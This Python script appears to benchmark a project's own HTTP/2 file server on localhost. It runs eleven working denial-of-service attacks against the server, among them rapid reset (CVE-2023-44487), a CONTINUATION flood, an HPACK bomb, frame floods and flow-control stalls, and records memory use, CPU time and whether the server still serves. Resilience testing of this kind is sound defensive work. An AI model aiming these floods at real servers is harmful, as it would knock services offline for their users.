#!/usr/bin/env python3
"""Each HTTP/2 attack of http/tests/http/h2_attacks.rs, run for a while against the release file
server (one worker, h2c): the server's RSS before, at its peak and after, and the CPU seconds
it spent, per attack. Every attack reconnects whenever the server closes the connection, so it
runs for the whole period.

Usage: bench/scripts/h2_attacks.py [--seconds N] [--settle S] [--only NAME] [--bin BIN]
(build it first: cargo build --release -p moria-examples --bin fileserver)
"""

import argparse
import os
import socket
import struct
import subprocess
import tempfile
import threading
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return bytes([0x00, len(name)]) + name + bytes([len(value)]) + value


def request(path=b"/", extra=b""):
    # :method GET, :scheme http, then :path and :authority as literals.
    return bytes([0x82, 0x86]) + literal(b":path", path) + literal(b":authority", b"a") + extra


def hpack_int(v, prefix, bits):
    top = (1 << prefix) - 1
    if v < top:
        return bytes([bits | v])
    out, v = [bits | top], v - top
    while v >= 128:
        out.append(v % 128 + 128)
        v //= 128
    return bytes(out + [v])


class Conn:
    def __init__(self, port, settings=b""):
        self.s = socket.create_connection(("127.0.0.1", port))
        self.s.settimeout(5)
        self.s.sendall(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, 1, 0))
        self.reader = threading.Thread(target=self.drain, daemon=True)
        self.closed = False
        self.reader.start()

    def drain(self):
        try:
            while self.s.recv(65536):
                pass
        except OSError:
            pass
        self.closed = True

    def send(self, b):
        try:
            self.s.sendall(b)
            return not self.closed
        except OSError:
            return False

    def close(self):
        try:
            self.s.close()
        except OSError:
            pass


def rapid_reset(port, until):
    while time.time() < until:
        c, sid = Conn(port), 1
        while time.time() < until:
            burst = b"".join(frame(HEADERS, END_HEADERS, sid + 2 * i, request())
                             + frame(RST_STREAM, 0, sid + 2 * i, struct.pack(">I", 8)) for i in range(100))
            sid += 200
            if not c.send(burst):
                break
        c.close()


def continuation_flood(port, until):
    junk = frame(CONTINUATION, 0, 1, b"\x40" * 16384)
    while time.time() < until:
        c = Conn(port)
        c.send(frame(HEADERS, 0, 1, request()))
        while time.time() < until and c.send(junk * 8):
            pass
        c.close()


def hpack_bomb(port, until):
    bomb = request() + b"\x40" + bytes([4]) + b"bomb" + hpack_int(4000, 7, 0) + b"b" * 4000
    bomb += bytes([0x80 | 62]) * 3000
    while time.time() < until:
        c, sid = Conn(port), 1
        while time.time() < until and sid < 20000:
            # The first block adds the entry; later ones only refer to it.
            block = bomb if sid == 1 else request() + bytes([0x80 | 62]) * 3000
            if not c.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, block)):
                break
            sid += 2
        c.close()


def flood(kind):
    payload = b"\x07" * 8 if kind == PING else b""

    def run(port, until):
        burst = frame(kind, 0, 0, payload) * 500
        while time.time() < until:
            c = Conn(port)
            while time.time() < until and c.send(burst):
                pass
            c.close()
    return run


def window_held_shut(port, until, settings=struct.pack(">HI", 4, 0)):
    # INITIAL_WINDOW_SIZE 0 and 100 requests for a large file per connection, 20 connections
    # at a time: each stream waits for window until the server's write timeout resets it
    # (past the server's cap on parked streams, h2_max_parked, it is reset at once).
    conns = []
    while time.time() < until:
        c = Conn(port, settings)
        c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, request(b"/big.bin"))
                        for i in range(100)))
        conns.append(c)
        if len(conns) > 20:
            conns.pop(0).close()
        time.sleep(0.05)
    for c in conns:
        c.close()


def conn_window_held_shut(port, until):
    # The default stream window, but the connection's never reopened: after the first 64 KiB
    # every stream waits on the connection's window (in the same server-wide cap).
    window_held_shut(port, until, b"")


def keeps_stalling(port, until):
    # INITIAL_WINDOW_SIZE 0 on one connection that keeps opening streams for a large file, 10
    # at a time, as its streams are reset: past 32 streams reset for the shut window the server
    # closes it (GOAWAY ENHANCE_YOUR_CALM), and the attack reconnects.
    settings = struct.pack(">HI", 4, 0)
    while time.time() < until:
        c, sid = Conn(port, settings), 1
        while time.time() < until and sid < 100000:
            burst = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, sid + 2 * i, request(b"/big.bin"))
                             for i in range(10))
            if not c.send(burst):
                break
            sid += 20
            time.sleep(0.01)
        c.close()


def too_many_streams(port, until):
    # 100 streams whose request bodies never end, then a stream more, over and over.
    while time.time() < until:
        c = Conn(port)
        c.send(b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, request()) for i in range(101)))
        sid = 203
        while time.time() < until and sid < 100000:
            if not c.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, request())):
                break
            sid += 2
        c.close()


def window_overflow(port, until):
    while time.time() < until:
        c = Conn(port)
        c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)) * 2)
        c.close()


def stream_ids_backwards(port, until):
    while time.time() < until:
        c = Conn(port)
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 5, request())
               + frame(HEADERS, END_HEADERS | END_STREAM, 3, request()))
        c.close()


ATTACKS = [
    ("rapid reset (CVE-2023-44487)", rapid_reset),
    ("CONTINUATION flood (CVE-2024-27316)", continuation_flood),
    ("HPACK bomb (431 per stream)", hpack_bomb),
    ("SETTINGS flood", flood(SETTINGS)),
    ("PING flood", flood(PING)),
    ("stream window held at zero (20 conns x 100 streams)", window_held_shut),
    ("connection window held at zero (20 conns x 100 streams)", conn_window_held_shut),
    ("one connection stalling stream after stream", keeps_stalling),
    ("streams past the limit (REFUSED_STREAM)", too_many_streams),
    ("window overflow", window_overflow),
    ("stream ids going backwards", stream_ids_backwards),
]


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def cpu_s(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--seconds", type=float, default=10)
    ap.add_argument("--bin", default="target/release/fileserver")
    ap.add_argument("--only", default="", help="run only the attacks whose name holds this")
    ap.add_argument("--settle", type=float, default=2, help="seconds between an attack and 'after'")
    args = ap.parse_args()
    root = tempfile.mkdtemp()
    with open(os.path.join(root, "big.bin"), "wb") as f:
        f.write(b"x" * 1_000_000)
    server = subprocess.Popen([args.bin, "--http", "127.0.0.1:0", "--no-https", "--workers", "1",
                               "--root", root], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    banner = server.stdout.readline().decode()
    port = int(banner.split("http://127.0.0.1:")[1].split("/")[0].split()[0].rstrip(";"))
    print(f"release fileserver --workers 1 (h2c), {args.seconds:.0f} s per attack, pid {server.pid}")
    print("| attack | RSS before KiB | peak KiB | after KiB | server CPU s | still serves |")
    print("|---|---:|---:|---:|---:|---|")
    try:
        for name, attack in [a for a in ATTACKS if args.only in a[0]]:
            before, cpu0, peak = rss_kib(server.pid), cpu_s(server.pid), 0
            until = time.time() + args.seconds
            t = threading.Thread(target=attack, args=(port, until), daemon=True)
            t.start()
            while t.is_alive():
                peak = max(peak, rss_kib(server.pid))
                t.join(0.05)
            cpu = cpu_s(server.pid) - cpu0
            # Settle: the server's stall timeouts end what the attack left open.
            time.sleep(args.settle)
            after = rss_kib(server.pid)
            ok = subprocess.run(["curl", "-s", "--http2-prior-knowledge", "-o", "/dev/null", "-w",
                                 "%{http_code}", f"http://127.0.0.1:{port}/"],
                                capture_output=True, text=True, timeout=30).stdout == "200"
            print(f"| {name} | {before} | {peak} | {after} | {cpu:.2f} | {'yes' if ok else 'NO'} |",
                  flush=True)
    finally:
        server.kill()


if __name__ == "__main__":
    main()
